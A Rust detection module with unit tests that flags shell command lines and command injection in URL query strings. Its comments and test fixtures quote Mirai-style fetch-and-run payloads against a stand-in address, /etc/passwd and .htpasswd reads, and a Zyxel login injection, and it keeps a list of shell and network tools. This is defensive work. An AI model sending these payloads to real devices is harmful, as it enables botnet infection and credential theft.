//! A query string that is a shell command line, not parameters.
//!
//! Router and camera exploits (Mirai and its descendants, the `/shell?` backdoor of cheap DVRs)
//! send the command itself as the query: `/shell?cd+/tmp;rm+-rf+*;wget+http://...`, or a
//! reconnaissance first, `/shell?uname -a`, often percent-encoded letter by letter. A query of
//! parameters (`key=value&...`) never starts with a command name followed by a shell argument.
//!
//! Command injection into one parameter (Cacti's `poller_id=;touch x`, a ping form's
//! `ip=127.0.0.1;cat /etc/passwd`) ends the value's command with a separator and starts its
//! own: [`has_injected_command`].

/// Commands such payloads start with: reconnaissance, moving to a writable directory, fetching
/// and running a binary.
const COMMANDS: &[&str] = &[
    "uname", "id", "whoami", "cd", "rm", "cat", "echo", "wget", "curl", "tftp", "busybox", "sh",
    "bash", "chmod", "nc", "ls", "ps", "ifconfig", "ping", "killall", "touch", "sleep", "nslookup",
    "ncat", "telnet", "perl", "python", "python3",
];

/// Whether the (percent-decoded, `+` read as a space) query starts with a command of
/// [`COMMANDS`] and continues like a shell: an option (`-a`), an absolute path (`/tmp`), a URL,
/// another command (`busybox wget`), or a separator chaining the next command (`;`, `|`, `&&`,
/// `` ` ``). `cat=books`, `q=uname -a` and `echo hello` are not command lines.
pub(super) fn is_command_line(query: &str) -> bool {
    let (word, rest) = first_word(query);
    if !is_command(word) {
        return false;
    }
    let separator = rest.starts_with([';', '|', '`']) || rest.starts_with("&&");
    let argument = rest.trim_start();
    let shell_argument = rest.starts_with(|c: char| c.is_ascii_whitespace())
        && (argument.starts_with(['-', '/'])
            || argument
                .get(..4)
                .is_some_and(|s| s.eq_ignore_ascii_case("http"))
            || argument.contains([';', '|', '`'])
            || is_command(first_word(argument).0));
    separator || shell_argument
}

/// What the parameters of a (percent-decoded, `+` read as a space) query carry, read in one
/// pass over them ([`query_commands`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(super) struct QueryCommands {
    /// A parameter value injects a command: a shell separator (`;`, `|`, `` ` ``, `$(`) then a
    /// command of [`COMMANDS`], either opening the value (`poller_id=;touch test.txt`, `host=|id`),
    /// right after a quote that closes the argument it was meant to stay in
    /// (`username=admin';ls #`), or followed by a shell-like argument
    /// (`ip=127.0.0.1;cat /etc/passwd`, `q=x|sleep 5`). Lists
    /// and prose are not: `fields=name;id;email` (the separator is inside the value, nothing
    /// follows the command), `q=rock; cat power` (a word, not a path, option, number or file).
    pub injected: bool,
    /// A parameter named for a command (`cmd=`, `command=`, `exec=`: [`COMMAND_PARAMETERS`]) holds
    /// a command line ([`is_command_line`]): `cmd=cat /www/.htpasswd`. What a web shell or a device
    /// CGI that runs what it is given receives, with no separator; but also what ordinary command
    /// APIs take (Kubernetes' `exec?command=`, Rundeck's `exec=`, a Jenkins job's `CMD=`,
    /// explainshell's `cmd=`), so it is code injection only in a request for a script file
    /// (`probe_class` checks the path: `setup.cgi`, `x.php`). A search for `uname -a` (`q=`) is not
    /// one.
    ///
    /// A reconnaissance command alone counts too (`cmd=id`, `cmd=whoami`: [`RECON_COMMANDS`], what
    /// a web shell's first request runs), but not other single words (elFinder's connector takes
    /// `cmd=ls`, `cmd=rm`, `cmd=open` for its own operations). `cmd[]=` is `cmd=`.
    pub command_parameter: bool,
}

/// The [`QueryCommands`] of a query: each parameter is split once and both questions asked of
/// it; the walk stops when both are answered yes.
pub(super) fn query_commands(query: &str) -> QueryCommands {
    let mut found = QueryCommands::default();
    for param in query.split('&') {
        let (name, value) = match param.split_once('=') {
            Some((name, value)) => (Some(name), value),
            None => (None, param),
        };
        found.injected = found.injected || injects_command(value);
        found.command_parameter =
            found.command_parameter || name.is_some_and(|name| runs_command(name, value));
        if found.injected && found.command_parameter {
            break;
        }
    }
    found
}

/// Whether a parameter `name=value` is named for a command and holds one (see
/// [`QueryCommands::command_parameter`]).
fn runs_command(name: &str, value: &str) -> bool {
    let name = name.trim().trim_end_matches("[]");
    COMMAND_PARAMETERS
        .iter()
        .any(|p| p.eq_ignore_ascii_case(name))
        && (is_command_line(value)
            || RECON_COMMANDS
                .iter()
                .any(|c| c.eq_ignore_ascii_case(value.trim())))
}

/// Commands that only tell an intruder where they are: who the server runs as, on which host,
/// in which directory.
const RECON_COMMANDS: &[&str] = &["id", "whoami", "hostname", "pwd", "ifconfig", "uname"];

/// Parameter names that say their value is a command to run.
const COMMAND_PARAMETERS: &[&str] = &["cmd", "command", "exec", "execute", "shell"];

/// Whether one parameter value injects a command (see [`QueryCommands::injected`]).
///
/// Linear in the value, whatever it repeats: a run of separators is skipped once (the cursor
/// moves past it) and a word is read only as far as the longest command, so `;;;;...` or
/// `$($($(...` over a megabyte costs what one pass does.
fn injects_command(value: &str) -> bool {
    let value = value.trim_start();
    let mut from = 0;
    // Quotes in `value[..counted]`, counted once as the cursor moves on.
    let (mut counted, mut quotes) = (0, Quotes::default());
    while let Some(off) = value[from..].find([';', '|', '`', '$']) {
        let at = from + off;
        quotes.count(&value[counted..at]);
        counted = at;
        let separator = match value.as_bytes()[at..] {
            [b'$', b'(', ..] => 2,
            [b'$', ..] => {
                from = at + 1;
                continue;
            }
            [b'`', ..] if !backquote_touches(value, at) => {
                from = at + 1;
                continue;
            }
            _ => 1,
        };
        let rest = value[at + separator..].trim_start_matches([';', '|', ' ']);
        from = value.len() - rest.len();
        if after_command(rest)
            .is_some_and(|after| at == 0 || quotes.closes(&value[..at]) || shell_argument(after))
        {
            return true;
        }
    }
    false
}

/// Single and double quotes counted in a prefix of a value.
#[derive(Default)]
struct Quotes {
    single: usize,
    double: usize,
}

impl Quotes {
    /// Adds the quotes of `s`, the text that follows what was counted so far.
    fn count(&mut self, s: &str) {
        for b in s.bytes() {
            match b {
                b'\'' => self.single += 1,
                b'"' => self.double += 1,
                _ => {}
            }
        }
    }

    /// Whether `before` (the counted value up to a separator) ends with a quote that closes the
    /// quoted argument the value was meant to stay in (`username=admin';ls #`, spaces allowed
    /// before the separator): its last character is a quote that occurs an odd number of times.
    /// A quote the value opened and closed itself is a phrase (`q="machine learning"|python`, a
    /// search engine's OR; `echo 'hello'|cat`, a documentation search), not an escape. Reads
    /// back only over the spaces before the separator.
    fn closes(&self, before: &str) -> bool {
        match before.trim_end().bytes().last() {
            Some(b'\'') => self.single % 2 == 1,
            Some(b'"') => self.double % 2 == 1,
            _ => false,
        }
    }
}

/// Whether the backquote at `at` opens a substitution bound to the value: at its start, right
/// after a character (`name=a\`uname -a\``), or after a space that follows data rather than a
/// word (`ip=127.0.0.1 \`uname -a\``: an address, a number, a path); and closed at the value's
/// end or before a separator (or never closed). Prose that quotes a command as code, as a search
/// for documentation does (``run \`ls -la\` ``, ``\`id\` column``, ``\`hostname\` vs \`uname -n\` ``),
/// is not. Reads at most up to the next backquote (and back over one word), so a run of
/// backquotes stays linear.
fn backquote_touches(value: &str, at: usize) -> bool {
    let bound_before = at == 0 || !value.as_bytes()[at - 1].is_ascii_whitespace() || {
        let word = value[..at]
            .trim_end()
            .rsplit(|c: char| c.is_ascii_whitespace())
            .next()
            .unwrap_or("");
        !word.is_empty() && !word.bytes().all(|b| b.is_ascii_alphabetic())
    };
    let after = &value[at + 1..];
    bound_before
        && after.find('`').is_none_or(|close| {
            let rest = after[close + 1..].trim_end();
            rest.is_empty() || rest.starts_with([';', '|', '&'])
        })
}

/// The longest name in [`COMMANDS`].
const LONGEST_COMMAND: usize = {
    let (mut i, mut longest) = (0, 0);
    while i < COMMANDS.len() {
        if COMMANDS[i].len() > longest {
            longest = COMMANDS[i].len();
        }
        i += 1;
    }
    longest
};

/// What follows the first word of `s` when that word is a command of [`COMMANDS`]. The word
/// is read at most one byte past the longest command: a longer one is no command.
fn after_command(s: &str) -> Option<&str> {
    let s = s.trim_start();
    let end = s
        .bytes()
        .take(LONGEST_COMMAND + 1)
        .position(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b'`'))
        .unwrap_or(s.len());
    (end <= LONGEST_COMMAND && is_command(&s[..end])).then(|| &s[end..])
}

/// Whether `after` (what follows a command word) starts with an argument a shell command takes:
/// an option, a path, a number, a URL or a file name.
fn shell_argument(after: &str) -> bool {
    if !after.starts_with(|c: char| c.is_ascii_whitespace()) {
        return false;
    }
    let (arg, _) = first_word(after);
    arg.starts_with(['-', '/', '~', '$'])
        || arg.starts_with(|c: char| c.is_ascii_digit())
        || arg.get(..4).is_some_and(|s| s.eq_ignore_ascii_case("http"))
        || arg.contains(['.', '/'])
}

/// The first word of `s` (up to a space or a shell separator) and the rest.
fn first_word(s: &str) -> (&str, &str) {
    let s = s.trim_start();
    let end = s
        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '`'))
        .unwrap_or(s.len());
    s.split_at(end)
}

/// Whether the (decoded) query starts with a command of [`COMMANDS`], alone or followed by
/// anything, its directory left out: `busybox`, `busybox MIRAI`, `/bin/busybox ECCHI`. What a
/// path that runs its query as a command carries (a DVR's `/shell` backdoor, which Mirai's
/// descendants ask `?busybox` to learn whether BusyBox answers); elsewhere such a query is a
/// page name or a flag (a wiki's `?BusyBox`, `man2html?busybox`), and [`is_command_line`] asks
/// more.
pub(super) fn starts_with_command(query: &str) -> bool {
    let (word, _) = first_word(query);
    let word = word.trim_end_matches('\0');
    is_command(word.rsplit('/').next().unwrap_or(word))
}

fn is_command(word: &str) -> bool {
    COMMANDS.iter().any(|c| c.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use super::{is_command_line, query_commands, starts_with_command};

    fn has_injected_command(query: &str) -> bool {
        query_commands(query).injected
    }

    fn has_command_parameter(query: &str) -> bool {
        query_commands(query).command_parameter
    }

    /// Command lines as router exploits send them, after decoding.
    #[test]
    fn commands_with_shell_arguments_or_separators_are_command_lines() {
        for q in [
            "uname -a",
            "cd /tmp;rm -rf *;wget http://198.51.100.1/m;sh m",
            "wget http://198.51.100.1/x.sh -O- | sh",
            "cat /proc/cpuinfo",
            "echo;busybox ECCHI",
            "BUSYBOX wget http://x",
            "echo 2014 | md5sum",
        ] {
            assert!(is_command_line(q), "{q}");
        }
    }

    /// A query that opens with a command, however it goes on (for paths that run their query).
    #[test]
    fn queries_opening_with_a_command_are_told() {
        for q in [
            "busybox",
            "BUSYBOX",
            "busybox MIRAI",
            "/bin/busybox ECCHI",
            "busybox\0",
            "uname -a",
        ] {
            assert!(starts_with_command(q), "{q}");
        }
        for q in ["", "page=2", "busyboxes", "q=busybox", "/usr/share/doc"] {
            assert!(!starts_with_command(q), "{q}");
        }
    }

    /// Parameters, searches and words that merely name a command.
    #[test]
    fn parameters_and_words_are_not_command_lines() {
        for q in [
            "",
            "cat=books&page=2",
            "q=uname -a",
            "echo hello",
            "id",
            "identity=7",
            "sh",
            "cdn=1",
            "ls",
            "page=2&cat /etc",
            "curl tutorial",
            "busybox",
        ] {
            assert!(!is_command_line(q), "{q}");
        }
    }

    /// A command injected into one parameter, after decoding.
    #[test]
    fn a_separator_and_a_command_in_a_value_is_an_injection() {
        for q in [
            "action=polldata&poller_id=;touch test.txt&",
            "host=|id",
            "ip=127.0.0.1;cat /etc/passwd",
            "q=x|sleep 5",
            "dir=$(wget http://198.51.100.1/x)",
            "name=a`uname -a`",
            "host=`id`",
            "ip=127.0.0.1 `uname -a`",
            "ip=1.1.1.1 `ping -c 10 127.0.0.1`",
            "path=/tmp/x `cat /etc/passwd`",
            "q=x`wget http://198.51.100.1/x`;",
            "q=`cat /etc/passwd`",
            "ip=1.1.1.1; ping -c 3 198.51.100.1",
            // A quoted argument closed first (Zyxel's weblogin.cgi, CVE-2020-9054).
            "username=admin';ls #&password=asdf",
            "name=x\";id",
            "user=admin' ; ls",
        ] {
            assert!(has_injected_command(q), "{q}");
        }
    }

    /// A parameter named for a command holding a command line; not a search, a word, an
    /// elFinder command (`cmd=ls` lists a folder) or prose.
    #[test]
    fn a_command_parameter_holding_a_command_line() {
        for q in [
            "next_file=netgear.cfg&todo=syscmd&cmd=cat /www/.htpasswd&curpath=/",
            "CMD=uname -a",
            "exec=wget http://198.51.100.1/x.sh",
            "cmd=id",
            "cmd[]=whoami",
            "Cmd= hostname ",
        ] {
            assert!(has_command_parameter(q), "{q}");
        }
        for q in [
            "q=uname -a",
            "q=cat /etc/passwd",
            "cmd=ls&target=l1_Lw",
            "cmd=open&init=1",
            "cmd=rm&targets[]=l1_Lw",
            "cmd=identify",
            "q=id",
            "command=echo hello",
            "cmd",
            "",
        ] {
            assert!(!has_command_parameter(q), "{q}");
        }
    }

    /// Values an attacker repeats to make a naive scan quadratic: each is one pass (a megabyte
    /// of `;` took minutes before; now milliseconds, and nothing is found in them).
    #[test]
    fn repeated_separators_and_long_words_are_read_once() {
        const MIB: usize = 1 << 20;
        for unit in [";", "$(", "; ", "|x", "`", "$(a"] {
            let q = format!("v={}", unit.repeat(MIB / unit.len()));
            assert!(!has_injected_command(&q), "{unit:?} repeated");
        }
        let q = format!("v=x{}id", ";".repeat(MIB));
        assert!(
            !has_injected_command(&q),
            "a command after the run, with no argument"
        );
        let q = format!("v={};cat /etc/passwd", "$(".repeat(MIB / 2));
        assert!(has_injected_command(&q), "found at the end of the run");
    }

    /// Lists, prose, prices and templates that hold separators or command words.
    #[test]
    fn lists_and_prose_with_separators_are_not() {
        for q in [
            "fields=name;id;email",
            "q=cats|dogs",
            "q=rock; cat power",
            "sort=price|desc&page=2",
            "price=$5",
            "filter=status;ls",
            "q=it's;ls",
            // Phrases the value quoted itself (a search engine's OR, a documentation search).
            "q=\"machine learning\"|python",
            "q=\"golden retriever\"|cat",
            "q=echo 'hello'|cat",
            "tpl=${name}",
            "q=id",
            "q=run `ls -la`",
            "q=`hostname` vs `uname -n`",
            "q=`sleep 5` in script",
            "q=`id` column",
            "q=foo `sleep 10` bar",
            "",
        ] {
            assert!(!has_injected_command(q), "{q}");
        }
    }
}
